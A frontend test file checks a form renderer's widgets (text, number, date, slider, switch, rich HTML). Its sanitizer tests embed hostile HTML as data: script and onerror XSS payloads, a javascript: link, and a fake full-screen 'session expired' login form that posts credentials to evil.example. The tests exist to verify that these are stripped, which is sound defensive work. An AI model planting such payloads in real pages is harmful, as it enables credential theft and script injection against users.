import { act, fireEvent, screen } from '@testing-library/react';
import dayjs from 'dayjs';
import { describe, expect, it } from 'vitest';
import { field, renderForm } from '../test/render';
import { precisionOf } from './NumberWidget';
import { sliderMarks } from './ScalarWidgets';

describe('text fields', () => {
  it('shows the word limit only when the maximum length exceeds 10', () => {
    const { container } = renderForm({
      list: [
        field('input', '短', 'short', { maxLength: 10 }),
        field('input', '长', 'long', { maxLength: 11 }),
        field('textarea', '备注', 'note', { maxLength: 200 }),
      ],
    });
    const counts = [...container.querySelectorAll('.ant-input-show-count-suffix, .ant-input-data-count')].map(
      (el) => el.textContent,
    );
    expect(counts).toEqual(['0 / 11', '0 / 200']);
    expect((screen.getByLabelText('短') as HTMLInputElement).maxLength).toBe(10);
  });

  it('puts prepend and append texts around the input', () => {
    renderForm({ list: [field('input', '网址', 'url', { prepend: 'https://', append: '.com' })] });
    expect(screen.getByText('https://')).toBeTruthy();
    expect(screen.getByText('.com')).toBeTruthy();
  });
});

describe('number', () => {
  it('applies a precision from 0 to 50 and ignores one above', () => {
    expect(precisionOf(2)).toBe(2);
    expect(precisionOf(0)).toBe(0);
    expect(precisionOf(51)).toBeUndefined();
    expect(precisionOf('')).toBeUndefined();
    expect(precisionOf(null)).toBeUndefined();
  });

  it('clamps to max and rounds to the precision when the field is left', async () => {
    const { form } = renderForm({
      list: [field('number', '数量', 'qty', { min: 0, max: 100, precision: 1 })],
    });
    const input = screen.getByLabelText('数量');
    fireEvent.change(input, { target: { value: '150' } });
    fireEvent.blur(input);
    expect(form().getValues().qty).toBe(100);
    fireEvent.change(input, { target: { value: '3.14' } });
    fireEvent.blur(input);
    expect(form().getValues().qty).toBe(3.1);
  });
});

describe('dates', () => {
  it('shows the default value now in the field format, per date type', () => {
    renderForm({
      list: [
        field('date', '月份', 'month', { dateType: 'month', format: 'yyyy-MM', defaultValue: 'now' }),
        field('date', '年份', 'year', { dateType: 'year', defaultValue: 'now' }),
        field('time', '时间', 'time', { defaultValue: '08:30:00' }),
      ],
    });
    expect((screen.getByLabelText('月份') as HTMLInputElement).value).toBe(dayjs().format('YYYY-MM'));
    expect((screen.getByLabelText('年份') as HTMLInputElement).value).toBe(dayjs().format('YYYY'));
    expect((screen.getByLabelText('时间') as HTMLInputElement).value).toBe('08:30:00');
  });

  it('stores a picked date as text in the format, a range as two texts', async () => {
    const { form } = renderForm({
      list: [
        field('date', '日期', 'day', { format: 'yyyy/MM/dd' }),
        field('date', '区间', 'span', { range: true }),
      ],
    });
    act(() => form().setData({ day: '2024/03/05', span: ['2024-01-01', '2024-02-01'] }));
    expect((screen.getByLabelText('日期') as HTMLInputElement).value).toBe('2024/03/05');
    const inputs = document.querySelectorAll<HTMLInputElement>('.ant-picker-range input');
    expect([...inputs].map((i) => i.value)).toEqual(['2024-01-01', '2024-02-01']);
  });
});

describe('rate, slider, switch', () => {
  it('draws as many stars as the maximum', () => {
    const { container } = renderForm({ list: [field('rate', '评分', 'score', { max: 7, defaultValue: 3 })] });
    expect(container.querySelectorAll('.ant-rate-star')).toHaveLength(7);
    expect(container.querySelectorAll('.ant-rate-star-full')).toHaveLength(3);
  });

  it('keeps slider marks within min..max, keyed by number', () => {
    expect(sliderMarks({ '0': '低', '50': '中', '100': '高', '150': '超出', x: '坏' }, 0, 100)).toEqual({
      0: '低',
      50: '中',
      100: '高',
    });
    expect(sliderMarks(undefined, 0, 100)).toBeUndefined();
    renderForm({ list: [field('slider', '进度', 'p', { marks: { '20': '二十' }, showInput: true })] });
    expect(screen.getByText('二十')).toBeTruthy();
    expect(screen.getByLabelText('进度')).toBeTruthy();
  });

  it('shows the switch texts and stores a boolean', () => {
    const { form } = renderForm({
      list: [field('switch', '启用', 'on', { activeText: '开', inactiveText: '关' })],
    });
    expect(screen.getByText('关')).toBeTruthy();
    fireEvent.click(screen.getByRole('switch'));
    expect(screen.getByText('开')).toBeTruthy();
    expect(form().getValues().on).toBe(true);
  });
});

describe('items without a value', () => {
  it('sanitises html: no scripts, no event handlers, no javascript: links', () => {
    const { container } = renderForm({
      list: [
        {
          type: 'html',
          key: 'html_1',
          label: '',
          options: {
            defaultValue:
              '<p>说明<b>加粗</b></p><script>window.hacked=1</script><img src="x" onerror="window.hacked=1"><a href="javascript:alert(1)">链接</a>',
          },
        },
      ],
    });
    const html = container.querySelector('.fr-html')!;
    expect(html.querySelector('b')?.textContent).toBe('加粗');
    expect(html.querySelector('script')).toBeNull();
    expect(html.querySelector('img')?.getAttribute('onerror')).toBeNull();
    expect(html.querySelector('a')?.getAttribute('href')).toBeNull();
  });

  it('keeps html to formatting: no page-wide <style>, no fixed overlay, no fake sign-in form', () => {
    const { container } = renderForm({
      list: [
        {
          type: 'html',
          key: 'html_1',
          label: '',
          options: {
            defaultValue:
              '<style>body{display:none}</style>' +
              '<div class="ant-modal-mask" id="app" style="position:fixed;inset:0;z-index:9999;color:red;padding:8px">会话已过期，请重新登录</div>' +
              '<form action="https://evil.example/steal"><input name="user"><input type="password" name="pwd"><button>登录</button></form>' +
              '<p style="transform:translate(0,-500px);font-weight:bold">公告</p><a href="https://example.com" target="_top">链接</a>',
          },
        },
      ],
    });
    const html = container.querySelector('.fr-html')!;
    expect(html.querySelector('style, form, input, button')).toBeNull();
    const overlay = html.querySelector('div')!;
    expect(overlay.textContent).toBe('会话已过期，请重新登录');
    expect(overlay.getAttribute('class')).toBeNull();
    expect(overlay.getAttribute('id')).toBeNull();
    expect(overlay.getAttribute('style')).toBe('color: red; padding: 8px');
    expect(html.querySelector('p')!.getAttribute('style')).toBe('font-weight: bold');
    const link = html.querySelector('a')!;
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link.getAttribute('target')).toBeNull();
  });

  it('keeps the inline styles of layout containers in their place', () => {
    const { container } = renderForm({
      list: [
        {
          type: 'table',
          key: 'table_1',
          label: '',
          options: { customStyle: 'position: fixed; top: 0; z-index: 10000; background-color: #fff' },
          trs: [
            {
              tds: [{ colspan: 1, rowspan: 1, style: 'position:absolute;left:-9999px;color:blue', list: [] }],
            },
          ],
        },
      ],
    });
    const table = container.querySelector('table')! as HTMLElement;
    expect(table.style.position).toBe('');
    expect(table.style.zIndex).toBe('');
    expect(table.style.backgroundColor).toBe('rgb(255, 255, 255)');
    const cell = container.querySelector('td')! as HTMLElement;
    expect(cell.style.position).toBe('');
    expect(cell.style.color).toBe('blue');
  });

  it('renders alert title and description, divider text, text and button', () => {
    renderForm({
      list: [
        {
          type: 'alert',
          key: 'a',
          label: '',
          options: { title: '注意', description: '请如实填写', type: 'warning' },
        },
        { type: 'divider', key: 'd', label: '分隔', options: { orientation: 'left' } },
        { type: 'text', key: 't', label: '说明文字', options: { showRequiredMark: true } },
        { type: 'button', key: 'b', label: '计算', options: { type: 'primary' } },
      ],
    });
    expect(screen.getByText('注意')).toBeTruthy();
    expect(screen.getByText('请如实填写')).toBeTruthy();
    expect(screen.getByText('分隔')).toBeTruthy();
    expect(screen.getByText('说明文字').querySelector('.fr-required')).not.toBeNull();
    expect(screen.getByRole('button', { name: '计算' }).className).toContain('ant-btn-primary');
  });

  it('names an unknown custom type instead of dropping it', () => {
    renderForm({ list: [field('signature', '签名', 'sign')] });
    expect(screen.getByText('不支持的组件类型：signature')).toBeTruthy();
  });
});
